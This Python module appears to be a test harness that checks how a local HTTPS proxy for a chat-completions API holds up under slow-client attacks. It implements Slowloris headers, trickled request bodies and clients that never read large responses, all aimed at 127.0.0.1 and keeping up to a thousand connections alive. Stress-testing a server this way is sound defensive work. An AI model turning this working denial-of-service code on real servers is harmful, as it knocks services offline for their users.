"""A thousand slow clients of one kind, kept up for the whole attack: whoever is cut comes back at once."""

import asyncio
import socket
import ssl
import time

HEAD = ("POST /v1/chat/completions HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n"
        "Authorization: Bearer sk-attack\r\n")
BODY = '{"model":"gpt-4o-mini","messages":[{"role":"user","content":"hello"}]}'
LARGE_ANSWER = 50_000_000


async def slow_head(reader, writer):
    """Slowloris: a head that never ends, one field every two seconds."""
    writer.write(HEAD.encode())
    for number in range(100_000):
        await pause_until_closed(reader, 2)
        writer.write(f"X-Slow-{number}: 1\r\n".encode())


async def slow_body(reader, writer):
    """A body of a megabyte at ten bytes a second."""
    writer.write((HEAD + "Content-Length: 1000000\r\n\r\n").encode())
    while True:
        await pause_until_closed(reader, 1)
        writer.write(b"0123456789")


async def pause_until_closed(reader, seconds):
    """Returns after `seconds`; raises ConnectionError as soon as the server answers with an end."""
    try:
        while await asyncio.wait_for(reader.read(4096), seconds):
            pass
    except asyncio.TimeoutError:
        return
    raise ConnectionError("cut")


class Attack:
    """Runs until `seconds` are over. `lifetimes` holds how long each cut connection had lived."""

    def __init__(self, port, behaviour, connections, seconds):
        self.port, self.behaviour = port, behaviour
        self.connections, self.seconds = connections, seconds
        self.lifetimes, self.refused, self.survivors = [], 0, []
        self.context = ssl.create_default_context()
        self.context.check_hostname, self.context.verify_mode = False, ssl.CERT_NONE

    def run(self):
        asyncio.run(self.run_all())

    async def run_all(self):
        self.end = time.monotonic() + self.seconds
        # Spread over five seconds: the attack is slowness, not a flood of handshakes.
        await asyncio.gather(*(self.keep_one(5 * index / self.connections) for index in range(self.connections)))

    async def keep_one(self, delay):
        await asyncio.sleep(delay)
        while time.monotonic() < self.end:
            try:
                reader, writer = await asyncio.wait_for(
                    asyncio.open_connection("127.0.0.1", self.port, ssl=self.context, limit=8192), 20)
            except (OSError, asyncio.TimeoutError):
                self.refused += 1
                await asyncio.sleep(1)
                continue
            began = time.monotonic()
            try:
                await asyncio.wait_for(self.behaviour(reader, writer), max(self.end - began, 0.01))
            except asyncio.TimeoutError:
                self.survivors.append(time.monotonic() - began)
            except OSError:
                self.lifetimes.append(time.monotonic() - began)
            writer.transport.abort()


class SlowReaders:
    """Clients that ask for a large answer and never read it. A thread-free loop of plain sockets: what is not
    read stays in the kernel and pushes back on the proxy."""

    def __init__(self, port, connections):
        self.port, self.connections = port, connections
        self.sockets = []
        self.context = ssl.create_default_context()
        self.context.check_hostname, self.context.verify_mode = False, ssl.CERT_NONE

    def open(self):
        request = (HEAD + f"x-mock-bytes: {LARGE_ANSWER}\r\nContent-Length: {len(BODY)}\r\n\r\n" + BODY).encode()
        for _ in range(self.connections):
            plain = socket.socket()
            plain.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
            plain.settimeout(20)
            plain.connect(("127.0.0.1", self.port))
            secure = self.context.wrap_socket(plain, server_hostname="localhost")
            secure.sendall(request)
            self.sockets.append(secure)

    def close(self):
        for each in self.sockets:
            each.close()
        self.sockets.clear()
